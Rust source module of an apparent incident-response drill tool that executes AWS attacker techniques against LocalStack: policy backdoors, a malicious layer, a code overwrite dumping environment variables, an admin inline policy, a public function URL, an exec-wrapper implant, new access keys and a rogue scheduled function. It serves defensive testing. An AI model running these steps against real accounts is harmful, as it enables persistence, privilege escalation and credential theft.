//! `attack`: the attacker's steps, executed for real against LocalStack.
//! Each technique is one function that names its public source (see
//! `model::TECHNIQUES`) and returns the artifacts it left: what a response
//! must contain, and a marker that must turn up in the evidence.

use std::collections::HashMap;

use aws_sdk_lambda::primitives::Blob;
use aws_sdk_lambda::types::{Environment, FunctionUrlAuthType, LayerVersionContentInput};
use serde::Serialize;

use super::lab::Lab;
use super::model::Technique;
use super::names::Namespace;
use super::setup::{call, create_function, put_lines, wait_ready, zip_stored, Created, World};
use super::DrillError;

/// How the end state shows an artifact is contained.
#[derive(Debug, Clone, Serialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum Containment {
    /// The resource-policy statement is gone.
    StatementGone { function: String, sid: String },
    /// The function cannot run (reserved concurrency 0): what it carries
    /// (a layer, code, a wrapper) cannot execute.
    Throttled { function: String },
    /// The role's inline policy is gone.
    InlinePolicyGone { role: String, policy: String },
    /// No public URL on the qualifier.
    UrlClosed { function: String, qualifier: String },
    /// The mapping is disabled (or deleted).
    MappingDisabled { uuid: String },
    /// The access key is Inactive (or deleted).
    KeyInactive { user: String, key_id: String },
    /// The role the function runs on carries firebreak's deny-all.
    RoleDenied { role: String },
    /// Nothing to contain (log lines, invocations already made).
    Nothing,
}

/// What one attack step left behind.
#[derive(Debug, Clone, Serialize)]
pub struct Artifact {
    pub technique: &'static str,
    pub what: String,
    pub contain: Containment,
    /// A string the evidence must contain (a statement id, a key id, a
    /// layer ARN, a line from the code or logs); `None` when the artifact
    /// leaves nothing to preserve.
    pub marker: Option<String>,
    /// The action a playbook needs to contain it (for "why missed").
    pub needs: &'static str,
}

/// One executed step, on the drill clock.
#[derive(Debug, Clone, Serialize)]
pub struct Executed {
    pub technique: &'static str,
    pub title: &'static str,
    pub source: &'static str,
    pub url: &'static str,
    pub started_at: String,
    pub finished_at: String,
    pub started_ms: u64,
    pub finished_ms: u64,
}

pub struct Attack {
    pub steps: Vec<Executed>,
    pub artifacts: Vec<Artifact>,
    /// When the alarm was set to ALARM (drill clock, ms).
    pub alarm_set_ms: Option<u64>,
}

fn err(what: impl Into<String>) -> impl FnOnce(String) -> DrillError {
    let what = what.into();
    move |e| DrillError::aws("attack", what, e)
}

/// Runs every step in order. `clock` is the drill's start.
pub async fn run(
    lab: &Lab,
    attacker: &Lab,
    ns: &Namespace,
    w: &mut World,
    steps: &[Technique],
    clock: std::time::Instant,
) -> Result<Attack, DrillError> {
    let mut out = Attack {
        steps: Vec::new(),
        artifacts: Vec::new(),
        alarm_set_ms: None,
    };
    let ms = |c: std::time::Instant| u64::try_from(c.elapsed().as_millis()).unwrap_or(u64::MAX);
    for t in steps {
        let info = t.info();
        let (started_at, started_ms) = (crate::time::now_rfc3339(), ms(clock));
        let artifacts = step(lab, attacker, ns, w, t).await?;
        if matches!(t, Technique::SetAlarm) {
            out.alarm_set_ms = Some(ms(clock));
        }
        out.artifacts.extend(artifacts);
        out.steps.push(Executed {
            technique: info.id,
            title: info.title,
            source: info.source,
            url: info.url,
            started_at,
            finished_at: crate::time::now_rfc3339(),
            started_ms,
            finished_ms: ms(clock),
        });
    }
    Ok(out)
}

fn fname(w: &World, logical: &str) -> String {
    w.function(logical)
        .map(|f| f.name.clone())
        .unwrap_or_default()
}

async fn step(
    lab: &Lab,
    attacker: &Lab,
    ns: &Namespace,
    w: &mut World,
    t: &Technique,
) -> Result<Vec<Artifact>, DrillError> {
    let id = t.id();
    Ok(match t {
        Technique::ResourcePolicyBackdoor { function } => {
            let name = fname(w, function);
            let sid = format!("backdoor-{}", ns.suffix);
            call!(
                format!("AddPermission {sid}"),
                lab.lambda
                    .add_permission()
                    .function_name(&name)
                    .statement_id(&sid)
                    .action("lambda:InvokeFunction")
                    .principal(&ns.attacker_account)
                    .send()
            );
            vec![Artifact {
                technique: id,
                what: format!(
                    "statement {sid} on {name} lets account {} invoke it",
                    ns.attacker_account
                ),
                contain: Containment::StatementGone {
                    function: name,
                    sid: sid.clone(),
                },
                marker: Some(sid),
                needs: "lambda.remove_public_access",
            }]
        }
        Technique::MaliciousLayer { function } => {
            let name = fname(w, function);
            let layer = format!("telemetry-{}", ns.suffix);
            let code = format!("# drill implant layer {}\n", ns.suffix);
            let out = call!(
                format!("PublishLayerVersion {layer} (attacker account)"),
                attacker
                    .lambda
                    .publish_layer_version()
                    .layer_name(&layer)
                    .content(
                        LayerVersionContentInput::builder()
                            .zip_file(Blob::new(zip_stored("python/implant.py", code.as_bytes())))
                            .build()
                    )
                    .send()
            );
            w.created.push(Created::AttackerLayer(layer.clone()));
            let arn = out.layer_version_arn().unwrap_or_default().to_string();
            call!(
                "AddLayerVersionPermission",
                attacker
                    .lambda
                    .add_layer_version_permission()
                    .layer_name(&layer)
                    .version_number(out.version())
                    .statement_id("share")
                    .action("lambda:GetLayerVersion")
                    .principal(&ns.account)
                    .send()
            );
            call!(
                format!("UpdateFunctionConfiguration {name} (layer)"),
                lab.lambda
                    .update_function_configuration()
                    .function_name(&name)
                    .layers(&arn)
                    .send()
            );
            wait_ready(lab, &name).await?;
            vec![Artifact {
                technique: id,
                what: format!("layer {arn} from account {} on {name}", ns.attacker_account),
                contain: Containment::Throttled { function: name },
                marker: Some(arn),
                needs: "lambda.set_concurrency",
            }]
        }
        Technique::CodeOverwrite { function } => {
            let info = w.function(function).cloned();
            let name = fname(w, function);
            let marker = format!("drill-implant-{}", ns.suffix);
            let code = format!("import os\n# {marker}\ndef handler(event, context):\n    return {{\"env\": dict(os.environ)}}\n");
            call!(
                format!("UpdateFunctionCode {name}"),
                lab.lambda
                    .update_function_code()
                    .function_name(&name)
                    .zip_file(Blob::new(zip_stored("handler.py", code.as_bytes())))
                    .send()
            );
            wait_ready(lab, &name).await?;
            let v = call!(
                format!("PublishVersion {name}"),
                lab.lambda.publish_version().function_name(&name).send()
            );
            let version = v.version().unwrap_or("$LATEST").to_string();
            let alias = info.and_then(|i| i.alias).unwrap_or_default();
            call!(
                format!("UpdateAlias {alias}"),
                lab.lambda
                    .update_alias()
                    .function_name(&name)
                    .name(&alias)
                    .function_version(&version)
                    .send()
            );
            vec![Artifact { technique: id, what: format!("{name} code overwritten, version {version} published, alias {alias} repointed to it"), contain: Containment::Throttled { function: name }, marker: Some(marker), needs: "lambda.set_concurrency" }]
        }
        Technique::InlineAdminPolicy { role } => {
            let rname = w.roles.get(role).cloned().unwrap_or_default();
            let policy = format!("ops-admin-{}", ns.suffix);
            let doc = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}"#;
            call!(
                format!("PutRolePolicy {policy}"),
                lab.iam
                    .put_role_policy()
                    .role_name(&rname)
                    .policy_name(&policy)
                    .policy_document(doc)
                    .send()
            );
            vec![Artifact {
                technique: id,
                what: format!("inline policy {policy} (Allow * on *) on role {rname}"),
                contain: Containment::InlinePolicyGone {
                    role: rname,
                    policy: policy.clone(),
                },
                marker: Some(policy),
                needs: "iam.quarantine_role",
            }]
        }
        Technique::PublicFunctionUrl { function } => {
            let info = w.function(function).cloned();
            let name = fname(w, function);
            let qualifier = info.and_then(|i| i.alias);
            let out = call!(
                format!("CreateFunctionUrlConfig {name} (NONE)"),
                lab.lambda
                    .create_function_url_config()
                    .function_name(&name)
                    .set_qualifier(qualifier.clone())
                    .auth_type(FunctionUrlAuthType::None)
                    .send()
            );
            call!(
                "AddPermission FunctionURLAllowPublicAccess",
                lab.lambda
                    .add_permission()
                    .function_name(&name)
                    .set_qualifier(qualifier.clone())
                    .statement_id("FunctionURLAllowPublicAccess")
                    .action("lambda:InvokeFunctionUrl")
                    .principal("*")
                    .function_url_auth_type(FunctionUrlAuthType::None)
                    .send()
            );
            let q = qualifier.clone().unwrap_or_else(|| "$LATEST".into());
            let _address = out.function_url();
            // The evidence keeps the statement that opens the URL, whose
            // resource names the qualifier.
            let arn = w
                .function(function)
                .map(|f| f.arn.clone())
                .unwrap_or_default();
            let marker = match &qualifier {
                Some(q) => format!("{arn}:{q}"),
                None => "FunctionURLAllowPublicAccess".into(),
            };
            vec![Artifact {
                technique: id,
                what: format!("public URL (AuthType NONE) on {name}:{q}"),
                contain: Containment::UrlClosed {
                    function: name,
                    qualifier: q,
                },
                marker: Some(marker),
                needs: "lambda.remove_public_access",
            }]
        }
        Technique::ForeignEventSource { function } => {
            let name = fname(w, function);
            let qname = format!("jobs-{}", ns.suffix);
            let url = call!(
                format!("CreateQueue {qname} (attacker account)"),
                attacker.sqs.create_queue().queue_name(&qname).send()
            )
            .queue_url()
            .unwrap_or_default()
            .to_string();
            w.created.push(Created::AttackerQueue(url));
            let qarn = format!("arn:aws:sqs:{}:{}:{qname}", ns.region, ns.attacker_account);
            let m = call!(
                format!("CreateEventSourceMapping {qarn}"),
                lab.lambda
                    .create_event_source_mapping()
                    .function_name(&name)
                    .event_source_arn(&qarn)
                    .batch_size(1)
                    .send()
            );
            let uuid = m.uuid().unwrap_or_default().to_string();
            w.created.push(Created::Mapping(uuid.clone()));
            vec![Artifact {
                technique: id,
                what: format!("event source mapping {uuid} from {qarn} into {name}"),
                contain: Containment::MappingDisabled { uuid: uuid.clone() },
                marker: Some(uuid),
                needs: "lambda.disable_event_sources",
            }]
        }
        Technique::ExecWrapper { function } => {
            let name = fname(w, function);
            let current = call!(
                format!("GetFunctionConfiguration {name}"),
                lab.lambda
                    .get_function_configuration()
                    .function_name(&name)
                    .send()
            );
            let mut vars: HashMap<String, String> = current
                .environment()
                .and_then(|e| e.variables())
                .cloned()
                .unwrap_or_default();
            vars.insert(
                "AWS_LAMBDA_EXEC_WRAPPER".into(),
                format!("/opt/implant-{}", ns.suffix),
            );
            call!(
                format!("UpdateFunctionConfiguration {name} (env)"),
                lab.lambda
                    .update_function_configuration()
                    .function_name(&name)
                    .environment(Environment::builder().set_variables(Some(vars)).build())
                    .send()
            );
            wait_ready(lab, &name).await?;
            vec![Artifact {
                technique: id,
                what: format!(
                    "AWS_LAMBDA_EXEC_WRAPPER=/opt/implant-{} on {name}",
                    ns.suffix
                ),
                contain: Containment::Throttled { function: name },
                marker: Some("AWS_LAMBDA_EXEC_WRAPPER".into()),
                needs: "lambda.set_concurrency",
            }]
        }
        Technique::NewAccessKey { user } => {
            let uname = w.users.get(user).cloned().unwrap_or_default();
            let out = call!(
                format!("CreateAccessKey {uname}"),
                lab.iam.create_access_key().user_name(&uname).send()
            );
            // The secret half is dropped here, never stored or printed.
            let key_id = out
                .access_key()
                .map(|k| k.access_key_id().to_string())
                .unwrap_or_default();
            vec![Artifact {
                technique: id,
                what: format!("access key {key_id} on user {uname}"),
                contain: Containment::KeyInactive {
                    user: uname,
                    key_id: key_id.clone(),
                },
                marker: Some(key_id),
                needs: "iam.deactivate_access_keys",
            }]
        }
        Technique::RogueFunction { role, name } => {
            let rname = w.roles.get(role).cloned().unwrap_or_default();
            let fname = ns.name(name);
            let code = format!(
                "# drill rogue {}\ndef handler(event, context):\n    return 1\n",
                ns.suffix
            );
            let arn = create_function(lab, &fname, &ns.role_arn(&rname), &code, None).await?;
            w.created.push(Created::Function(fname.clone()));
            let rule = format!("{fname}-every-5m");
            let r = call!(
                format!("PutRule {rule}"),
                lab.events
                    .put_rule()
                    .name(&rule)
                    .schedule_expression("rate(5 minutes)")
                    .send()
            );
            w.created.push(Created::Rule(rule.clone()));
            call!(
                "PutTargets",
                lab.events
                    .put_targets()
                    .rule(&rule)
                    .targets(
                        aws_sdk_eventbridge::types::Target::builder()
                            .id("rogue")
                            .arn(&arn)
                            .build()
                            .map_err(|e| e.to_string())
                            .map_err(err("Target"))?
                    )
                    .send()
            );
            call!(
                "AddPermission events",
                lab.lambda
                    .add_permission()
                    .function_name(&fname)
                    .statement_id("events")
                    .action("lambda:InvokeFunction")
                    .principal("events.amazonaws.com")
                    .set_source_arn(r.rule_arn().map(str::to_string))
                    .send()
            );
            vec![Artifact {
                technique: id,
                what: format!("function {fname} on role {rname}, run by rule {rule}"),
                contain: Containment::RoleDenied { role: rname },
                marker: Some(fname),
                needs: "iam.quarantine_role",
            }]
        }
        Technique::TelltaleLogs { function, lines } => {
            let name = fname(w, function);
            put_lines(
                lab,
                &format!("/aws/lambda/{name}"),
                &format!("2026/attacker-{}", ns.suffix),
                lines,
            )
            .await?;
            vec![Artifact {
                technique: id,
                what: format!("{} line(s) in /aws/lambda/{name}", lines.len()),
                contain: Containment::Nothing,
                marker: lines.first().cloned(),
                needs: "logs.snapshot",
            }]
        }
        Technique::InvokeFlood { function, count } => {
            let info = w.function(function).cloned();
            let name = fname(w, function);
            let qualifier = info.and_then(|i| i.alias);
            let mut set = tokio::task::JoinSet::new();
            let shown = qualifier.clone();
            for _ in 0..*count {
                let (l, n, q) = (lab.lambda.clone(), name.clone(), qualifier.clone());
                set.spawn(async move {
                    l.invoke()
                        .function_name(n)
                        .set_qualifier(q)
                        .send()
                        .await
                        .is_ok()
                });
            }
            let mut ok = 0;
            while let Some(r) = set.join_next().await {
                ok += usize::from(r.unwrap_or(false));
            }
            vec![Artifact {
                technique: id,
                what: format!(
                    "{ok} of {count} invocations of {name}:{}",
                    shown.as_deref().unwrap_or("$LATEST")
                ),
                contain: Containment::Throttled { function: name },
                marker: None,
                needs: "lambda.set_concurrency",
            }]
        }
        Technique::SetAlarm => {
            let alarm = w
                .alarm
                .as_ref()
                .map(|a| a.alarm.clone())
                .unwrap_or_default();
            call!(
                format!("SetAlarmState {alarm}"),
                lab.cloudwatch
                    .set_alarm_state()
                    .alarm_name(&alarm)
                    .state_value(aws_sdk_cloudwatch::types::StateValue::Alarm)
                    .state_reason("drill: errors after the attack")
                    .send()
            );
            Vec::new()
        }
    })
}
